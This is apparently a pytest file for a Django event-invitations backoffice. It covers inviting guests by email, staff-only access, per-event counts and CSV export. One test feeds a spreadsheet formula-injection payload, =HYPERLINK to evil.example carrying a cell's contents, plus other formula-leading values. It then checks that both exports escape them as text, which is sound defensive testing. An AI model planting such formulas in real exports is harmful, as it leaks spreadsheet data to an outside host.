"""The invitations backoffice: invite, the event's counts, export (admin.py, and the
API's CSV export beside it)."""

import csv
import io
import re

import pytest
from django.test import Client

from events.invitations import services
from events.invitations.models import Invitation
from tests.factories import EventFactory, StaffFactory, member
from tests.invitations.helpers import invite, token_in

pytestmark = pytest.mark.django_db


def test_admin_invite_three_addresses_and_see_the_counts(on_commit, mailbox):
    event = EventFactory(title="Council meeting")
    client = Client()
    client.force_login(StaffFactory(is_superuser=True))
    page = client.get(f"/admin/events/event/{event.pk}/change/")
    assert f"/admin/invitations/invitation/invite/{event.pk}/" in page.content.decode()
    with on_commit():
        response = client.post(
            f"/admin/invitations/invitation/invite/{event.pk}/",
            {
                "emails": "ravi@x.example\nYuki <yuki@x.example>\nasha@x.example\nasha@x.example\nbad",
                "language": "en",
            },
        )
    assert response.status_code == 200
    body = response.content.decode()
    assert "<strong>3</strong> created and queued for sending" in body
    assert "no email address on this line" in body
    assert sorted(m["X-Envelope-To"] for m in mailbox.messages) == [
        "asha@x.example",
        "ravi@x.example",
        "yuki@x.example",
    ]
    stats = client.get(f"/admin/invitations/invitation/event/{event.pk}/")
    assert stats.status_code == 200
    assert re.search(r"sent</a></td><td>3</td>", stats.content.decode())
    changelist = client.get("/admin/invitations/invitation/", {"event__id__exact": event.pk})
    assert changelist.status_code == 200
    ids = list(Invitation.objects.values_list("pk", flat=True))
    export = client.post(
        "/admin/invitations/invitation/",
        {
            "action": "export_csv",
            "_selected_action": ids,
        },
    )
    assert export.content.decode("utf-8-sig").count("Council meeting") == 3


def test_admin_invite_view_is_staff_only():
    event = EventFactory()
    client = Client()
    client.force_login(member())
    response = client.get(f"/admin/invitations/invitation/invite/{event.pk}/")
    assert response.status_code == 302  # to the admin login


def test_invitation_exports_write_formulas_as_text(on_commit, mailbox):
    """A guest's name, a decline reason or a server's error can start like a formula; both
    exports (the admin action and the API's CSV) write such cells as text."""
    event = EventFactory(title="=Council meeting")
    staff = StaffFactory(is_superuser=True)
    invite(
        on_commit,
        staff,
        event,
        emails_text='evil@x.example, =HYPERLINK("http://evil.example/?x="&A1)\n'
        "plain@x.example\nok@x.example",
    )
    Invitation.objects.filter(email="plain@x.example").update(name="@SUM(A1)")
    services.invitation_decline(
        token=token_in(mailbox.to("plain@x.example")[0]), reason="+1 busy\tthat week"
    )
    Invitation.objects.filter(email="ok@x.example").update(
        last_error="-ERR mailbox full", attempts=3
    )
    client = Client()
    client.force_login(staff)
    admin_export = client.post(
        "/admin/invitations/invitation/",
        {
            "action": "export_csv",
            "_selected_action": list(Invitation.objects.values_list("pk", flat=True)),
        },
    )
    api_export = client.get(f"/api/v1/events/{event.pk}/invitations/export/")
    for export in (admin_export, api_export):
        assert export["Content-Type"] == "text/csv; charset=utf-8"
        text = export.content.decode("utf-8")
        assert text.startswith("\ufeff")
        rows = {r["email"]: r for r in csv.DictReader(io.StringIO(text[1:]))}
        assert rows["evil@x.example"]["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
        assert rows["plain@x.example"]["name"] == "'@SUM(A1)"
        assert rows["plain@x.example"]["decline_reason"] == "'+1 busy\tthat week"
        assert rows["ok@x.example"]["last_error"] == "'-ERR mailbox full"
        assert rows["ok@x.example"]["attempts"] == "3"
        assert all(
            not v.startswith(("=", "+", "-", "@", "\t", "\r"))
            for r in rows.values()
            for v in r.values()
        )
    admin_rows = list(csv.DictReader(io.StringIO(admin_export.content.decode("utf-8-sig"))))
    assert {r["event"] for r in admin_rows} == {"'=Council meeting"}
